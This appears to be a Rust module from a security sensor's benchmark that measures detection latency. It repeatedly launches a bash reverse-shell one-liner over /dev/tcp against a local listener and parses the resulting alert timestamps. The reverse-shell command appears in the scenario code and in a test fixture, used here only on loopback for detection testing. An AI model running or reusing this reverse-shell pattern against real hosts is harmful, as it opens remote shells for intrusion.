//! Detection latency: a loopback reverse shell fired again and again while the sweep runs, and
//! the time from each triggering event's kernel timestamp to its alert being written (the
//! alert's `@timestamp` is the event's time, `event.created` the moment the daemon wrote it).
//!
//! The listener belongs to the bench and closes every connection at once, so each shell exits
//! as soon as it has started; only 127.0.0.1 is ever contacted.

use std::io::BufRead as _;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::Context as _;

/// Time between two shells.
const INTERVAL: Duration = Duration::from_millis(100);

/// Reverse shells fired in the background until dropped.
pub struct ShellScenario {
    port: u16,
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl ShellScenario {
    /// Opens the listener and starts firing.
    pub fn start() -> anyhow::Result<ShellScenario> {
        let listener = TcpListener::bind("127.0.0.1:0").context("binding the shell listener")?;
        listener.set_nonblocking(true)?;
        let port = listener.local_addr()?.port();
        let stop = Arc::new(AtomicBool::new(false));
        let accept_stop = Arc::clone(&stop);
        let acceptor = std::thread::spawn(move || {
            while !accept_stop.load(Ordering::Relaxed) {
                match listener.accept() {
                    // Dropped at once: the shell reads end-of-file and exits.
                    Ok((conn, _)) => drop(conn),
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        let fire_stop = Arc::clone(&stop);
        let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
        let firer = std::thread::spawn(move || {
            while !fire_stop.load(Ordering::Relaxed) {
                let _ = Command::new("bash")
                    .args(["-c", &script])
                    .stdin(Stdio::null())
                    .stdout(Stdio::null())
                    .stderr(Stdio::null())
                    .status();
                std::thread::sleep(INTERVAL);
            }
        });
        Ok(ShellScenario {
            port,
            stop,
            threads: vec![acceptor, firer],
        })
    }

    /// The listener's port: it appears in the alerts the scenario causes.
    pub fn port(&self) -> u16 {
        self.port
    }
}

impl Drop for ShellScenario {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

/// Milliseconds from event to alert for every alert of the scenario in `alerts` (JSON lines).
/// An alert belongs to the scenario when it mentions the listener's address and port (the
/// shell's command line, its parent's, or the connection's destination).
pub fn latencies_ms(alerts: &Path, port: u16) -> anyhow::Result<Vec<f64>> {
    let file =
        std::fs::File::open(alerts).with_context(|| format!("reading {}", alerts.display()))?;
    let marker = format!("127.0.0.1/{port}");
    let port_field = format!("\"port\":{port}");
    let mut out = Vec::new();
    for line in std::io::BufReader::new(file).lines() {
        let line = line?;
        if !line.contains(&marker) && !line.contains(&port_field) {
            continue;
        }
        let Ok(doc) = serde_json::from_str::<serde_json::Value>(&line) else {
            continue;
        };
        let time = |v: Option<&serde_json::Value>| v.and_then(|v| v.as_str()).and_then(unix_ns);
        if let (Some(event), Some(written)) = (
            time(doc.get("@timestamp")),
            time(doc.pointer("/event/created")),
        ) {
            out.push((written - event) as f64 / 1e6);
        }
    }
    Ok(out)
}

/// The `q` quantile (0..=1) by nearest rank; `None` for no sample.
pub fn quantile(samples: &[f64], q: f64) -> Option<f64> {
    let mut sorted = samples.to_vec();
    sorted.sort_by(f64::total_cmp);
    let rank = ((q * sorted.len() as f64).ceil() as usize).clamp(1, sorted.len().max(1));
    sorted.get(rank - 1).copied()
}

/// Nanoseconds since the epoch of an RFC 3339 UTC time as the sensor writes it
/// (`2026-11-26T07:00:00.123456789Z`; fewer fraction digits are accepted).
fn unix_ns(text: &str) -> Option<i128> {
    let (date, time) = text.strip_suffix('Z')?.split_once('T')?;
    let mut d = date.splitn(3, '-').map(str::parse::<i64>);
    let (y, m, day) = (d.next()?.ok()?, d.next()?.ok()?, d.next()?.ok()?);
    let (hms, frac) = time.split_once('.').unwrap_or((time, "0"));
    let mut t = hms.splitn(3, ':').map(str::parse::<i64>);
    let (h, min, s) = (t.next()?.ok()?, t.next()?.ok()?, t.next()?.ok()?);
    let digits = frac.get(..frac.len().min(9))?;
    let nanos = digits.parse::<i128>().ok()? * 10i128.pow(9 - digits.len() as u32);
    // Days from the civil date (Howard Hinnant's algorithm).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + day - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let secs = days * 86_400 + h * 3600 + min * 60 + s;
    Some(i128::from(secs) * 1_000_000_000 + nanos)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_the_sensors_timestamps() {
        assert_eq!(unix_ns("1970-01-01T00:00:00.000000000Z"), Some(0));
        assert_eq!(
            unix_ns("2026-11-26T07:00:00.5Z"),
            Some(1_795_676_400 * 1_000_000_000 + 500_000_000)
        );
        let a = unix_ns("2024-02-29T23:59:59.999999999Z").expect("leap day");
        let b = unix_ns("2024-03-01T00:00:00.000000000Z").expect("next day");
        assert_eq!(b - a, 1);
        assert_eq!(unix_ns("yesterday"), None);
    }

    #[test]
    fn quantiles_by_nearest_rank() {
        let v: Vec<f64> = (1..=100).map(f64::from).collect();
        assert_eq!(quantile(&v, 0.5), Some(50.0));
        assert_eq!(quantile(&v, 0.99), Some(99.0));
        assert_eq!(quantile(&[3.0], 0.99), Some(3.0));
        assert_eq!(quantile(&[], 0.5), None);
    }

    #[test]
    fn reads_scenario_alerts_only() {
        let dir = std::env::temp_dir().join(format!("bench-lat-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        let path = dir.join("alerts.json");
        std::fs::write(
            &path,
            "{\"@timestamp\":\"2026-11-26T07:00:00.000000000Z\",\"event\":{\"created\":\"2026-11-26T07:00:00.002500000Z\"},\"process\":{\"command_line\":\"bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"}}\n\
             {\"@timestamp\":\"2026-11-26T07:00:00.000000000Z\",\"event\":{\"created\":\"2026-11-26T07:00:01.000000000Z\"},\"process\":{\"command_line\":\"other\"}}\n\
             not json 127.0.0.1/4444\n",
        )
        .expect("write");
        let l = latencies_ms(&path, 4444).expect("read");
        assert_eq!(l.len(), 1);
        assert!((l[0] - 2.5).abs() < 1e-9, "{l:?}");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
